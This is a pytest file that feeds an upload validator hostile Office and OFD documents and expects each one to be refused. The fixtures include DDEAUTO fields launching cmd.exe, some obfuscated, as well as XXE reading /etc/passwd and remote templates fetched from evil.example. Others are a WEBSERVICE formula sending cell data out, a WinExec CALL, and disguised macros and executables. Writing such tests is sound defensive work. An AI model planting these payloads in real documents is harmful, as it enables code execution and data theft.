"""A document that acts, or reaches outside of itself, is refused whatever names it uses (A28)."""

from __future__ import annotations

import pytest

from huitong.kernel.procedure import Malformed
from huitong.work.rules import check_upload
from huitong.work.tests.documents import (
    OFFICE,
    ROW,
    SHEET,
    XL,
    W,
    changed,
    docx,
    field,
    ofd,
    put,
    types,
    with_formula,
    with_name,
    with_part,
    with_type,
)

LIMIT = 20 << 20
#: by suffix
HOSTILE: dict[str, dict[str, bytes]] = {
    "docx": {
        "template from elsewhere": docx(
            "<w:p/>", ("attachedTemplate", "http://evil.example/a.dotm", "External")
        ),
        "template from a share, not called external": docx(
            "<w:p/>", ("attachedTemplate", r"\\evil\a.dotm", "")
        ),
        "picture from elsewhere": docx(
            "<w:p/>", ("image", "http://evil.example/a.png", "External")
        ),
        "address that is not called external": docx("<w:p/>", ("image", "file:///etc/passwd", "")),
        "address in percent signs": docx("<w:p/>", ("image", "http%3A//evil.example/a.png", "")),
        "link to the web": docx("<w:p/>", ("hyperlink", "https://evil.example/", "External")),
        "frame": docx("<w:p/>", ("frame", "http://evil.example/", "External")),
        "part taken in": docx(
            "<w:p/>",
            ("aFChunk", "media/a.png", ""),
            parts={"word/media/a.png": b"\x89PNG\r\n\x1a\n"},
        ),
        "relation outside of the package": docx("<w:p/>", ("image", "../../a.png", "")),
        "relation nobody knows": docx(
            "<w:p/>", ("http://evil.example/relationships/image", "media/a.png", "")
        ),
        "macros": docx(parts={"word/vbaProject.bin": b"x"}),
        "macros of another name": docx(parts={"word/media/a.bin": b"x"}),
        "macros called a picture": docx(
            parts={"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}
        ),
        "macros by type": docx(
            content_types=types(main="application/vnd.ms-word.document.macroEnabled.main+xml")
        ),
        "project of macros by type": docx(
            content_types=types(("/word/styles.xml", "application/vnd.ms-office.vbaProject"))
        ),
        "object": docx(parts={"word/embeddings/oleObject1.bin": b"x"}),
        "object in the text": docx(
            '<w:object><o:OLEObject xmlns:o="urn:o" Type="Embed"/></w:object>'
        ),
        "control": docx('<w:control w:name="a"/>'),
        "control of its own part": docx(parts={"word/activeX/activeX1.xml": "<a/>"}),
        "workbook behind a chart": docx(parts={"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"x"}),
        "odd name": docx(parts={"word/document2.xml": "<a/>"}),
        "odd folder": docx(parts={"evil/document.xml": "<a/>"}),
        "web page inside": docx(parts={"word/media/a.html": "<script/>"}),
        "drawing that is a program": docx(parts={"word/media/a.svg": "<svg onload='x'/>"}),
        "names that differ in case": docx(parts={"word/Document.xml": "<a/>"}),
        "DDE": docx(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
        "DDE in pieces": docx(field("DD", "EAU", "TO", " c:\\\\cmd.exe")),
        "DDE in a simple field": docx('<w:fldSimple w:instr=" DDE cmd "/>'),
        "DDE put together by fields": docx(
            field("").replace("<w:r><w:instrText></w:instrText></w:r>", field("QUOTE 68 68 69"))
        ),
        "text taken in": docx(field('INCLUDETEXT "http://evil.example/a"')),
        "picture taken in by a field": docx(
            field('INCLUDEPICTURE "http://evil.example/a.png" \\d')
        ),
        "link by a field": docx(field('HYPERLINK "http://evil.example/"')),
        "database by a field": docx(field('DATABASE \\d "a.mdb"')),
        "button of a macro": docx(field("MACROBUTTON AutoOpen")),
        "field that never ends": docx(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO'
            " cmd</w:instrText></w:r></w:p>"
        ),
        "link that begins as a place": docx(field('HYPERLINK \\l a "http://evil.example/"')),
        "picture that begins as a place": docx("<w:p/>", ("image", r"#\\evil\a.png", "External")),
        "field without marks": docx("<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
        "source of data": docx(
            parts={
                "word/settings.xml": (
                    f'<w:settings {W}><w:mailMerge><w:dataSource r:id="r"'
                    ' xmlns:r="r"/></w:mailMerge></w:settings>'
                )
            }
        ),
        "picture by address": docx(
            '<v:imagedata xmlns:v="urn:v" src="http://evil.example/a.png"/>'
        ),
        "entities": docx(
            parts={
                "word/styles.xml": (
                    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
                )
            }
        ),
        "style sheet": docx(
            parts={"word/styles.xml": '<?xml-stylesheet href="http://evil.example/"?><a/>'}
        ),
        "no XML": docx(parts={"word/styles.xml": "<a>"}),
    },
    "xlsx": {
        "macro sheet": with_part(
            "macrosheets/sheet1.xml",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        ),
        "macro sheet of another name": with_part(
            "worksheets/sheet9.xml",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        ),
        "macro sheet by type": with_type("application/vnd.ms-excel.macrosheet+xml"),
        "sheet of dialogs": with_part("dialogsheets/sheet1.xml", f"{OFFICE}/dialogsheet"),
        "workbook of macros by type": with_type(
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        ),
        "link to a workbook": with_part(
            "externalLinks/externalLink1.xml", f"{OFFICE}/externalLink"
        ),
        "link to a workbook in a formula": with_formula("[1]Sheet1!A1"),
        "path of a workbook in a formula": with_formula("'http://evil.example/[a.xlsx]Sheet 1'!A1"),
        "share with a workbook in a formula": with_formula(r"'\\evil\[a.xlsx]Sheet1'!A1"),
        "name of a workbook in a formula": with_formula("SUM([a.xlsx]Sheet1!A1)"),
        "connection": with_part("connections.xml", f"{OFFICE}/connections"),
        "query": with_part("queryTables/queryTable1.xml", f"{OFFICE}/queryTable"),
        "object in a sheet": with_part("embeddings/oleObject1.bin", f"{OFFICE}/oleObject"),
        "object by its element": changed(
            SHEET, put("xl/worksheets/sheet1.xml", "<sheetData>", "<oleObjects/><sheetData>")
        ),
        "control in a sheet": with_part("ctrlProps/ctrlProp1.xml", f"{OFFICE}/ctrlProp"),
        "live data": with_part("volatileDependencies.xml", f"{OFFICE}/volatileDependencies"),
        "link to the web in a sheet": changed(
            SHEET,
            put(
                XL,
                "</Relationships>",
                ROW.format(f"{OFFICE}/hyperlink", "http://evil.example", ' TargetMode="External"'),
            ),
        ),
        "DDE in a formula": with_formula("cmd|'/C calc'!A0"),
        "web service": with_formula('WEBSERVICE("http://evil.example/"&amp;A1)'),
        "link by a formula": with_formula('HYPERLINK("http://evil.example/"&amp;A1,"x")'),
        "link by a formula after one that stays inside": with_formula(
            'HYPERLINK("#Sheet!A1","x")&amp;HYPERLINK("http://evil.example/")'
        ),
        "link by a formula behind quotation marks": with_formula(
            '"HYPERLINK(""#"&amp;WEBSERVICE(A1)'
        ),
        "program of a cloud": with_formula("_xlfn._xlws.PY(0,1,A1)"),
        "call of a library": with_formula('CALL("Kernel32","WinExec","JC","calc",0)'),
        "macro by name": with_name('name="_xlnm.Auto_Open"'),
        "function by name": with_name('name="a" vbProcedure="1"'),
    },
    "ofd": {
        "OFD with a file": ofd(
            Doc_0__Attachs__Attachments_dot_xml="<a/>", **{"Doc_0/Attachs/a.exe": b"MZ"}
        ),
        "OFD with a file called picture": ofd(**{"Doc_0/Res/a.png": b"MZ"}),
        "OFD that lists a file": ofd(
            **{
                "Doc_0/Attachs/Attachments.xml": (
                    '<ofd:Attachments xmlns:ofd="o"><ofd:Attachment/></ofd:Attachments>'
                )
            }
        ),
        "OFD that leads to the web": ofd(
            **{
                "Doc_0/Annots/a.xml": (
                    '<ofd:Action xmlns:ofd="o" Event="CLICK"><ofd:URI'
                    ' URI="http://evil.example"/></ofd:Action>'
                )
            }
        ),
        "OFD with a film": ofd(
            **{"Doc_0/Annots/a.xml": "<Actions><Action><Movie/></Action></Actions>"}
        ),
        "OFD with entities": ofd(**{"Doc_0/Annots/a.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'}),
        "OFD with a program": ofd(**{"Doc_0/Script.js": "x"}),
    },
}

CASES = [(suffix, name) for suffix, documents in HOSTILE.items() for name in documents]


@pytest.mark.parametrize(("suffix", "name"), CASES)
def test_what_acts_or_reaches_outside_is_refused(suffix: str, name: str) -> None:
    with pytest.raises(Malformed) as refusal:
        check_upload(f"a.{suffix}", HOSTILE[suffix][name], LIMIT)
    assert not refusal.value.detail.endswith("无法读取。"), refusal.value.detail
